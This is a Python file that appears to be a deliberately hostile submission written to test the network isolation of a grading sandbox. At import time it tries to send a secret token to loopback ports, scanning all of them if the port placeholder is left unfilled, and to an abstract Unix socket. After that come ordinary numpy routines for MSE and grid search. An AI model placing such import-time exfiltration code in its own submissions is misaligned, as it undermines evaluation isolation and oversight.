"""Attack: at import, connect to the grading machine's loopback and send a secret:
to the port the test's listener holds (written in place of the placeholder
below), or to every port when the placeholder is left as is, and to an abstract
Unix socket.

Expected: the sandbox has its own network; nothing is reached; 100 points.
"""

import socket

import numpy as np

PORT = "@PORT@"
UNIX_NAME = "@UNIX_NAME@"
SECRET = b"hostile-secret-5d1e"


def _send(family, address):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(0.5)
            sock.connect(address)
            sock.sendall(SECRET)
        return True
    except OSError:
        return False


ports = [int(PORT)] if PORT.isdigit() else range(1, 65536)
reached = [port for port in ports if _send(socket.AF_INET, ("127.0.0.1", port))]
if not UNIX_NAME.startswith("@") and _send(socket.AF_UNIX, "\0" + UNIX_NAME):
    reached.append(UNIX_NAME)
print(f"reached {reached}")


def forward(x, w):
    return np.asarray(x, dtype=float) * w if isinstance(x, (list, tuple)) else x * w


def loss(x, y, w):
    return (x * w - y) ** 2


def mse(xs, ys, w):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    return float(np.mean((xs * w - ys) ** 2))


def exhaustive_search(xs, ys, w_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = [float(np.mean((xs * float(w) - ys) ** 2)) for w in w_grid]
    best = int(np.argmin(costs))
    return float(w_grid[best]), costs


def forward_affine(x, w, b):
    x = np.asarray(x, dtype=float) if isinstance(x, (list, tuple)) else x
    return x * w + b


def exhaustive_search_affine(xs, ys, w_grid, b_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = np.array(
        [
            [float(np.mean((xs * float(w) + float(b) - ys) ** 2)) for b in b_grid]
            for w in w_grid
        ]
    )
    i, j = np.unravel_index(int(np.argmin(costs)), costs.shape)
    return float(w_grid[i]), float(b_grid[j]), costs
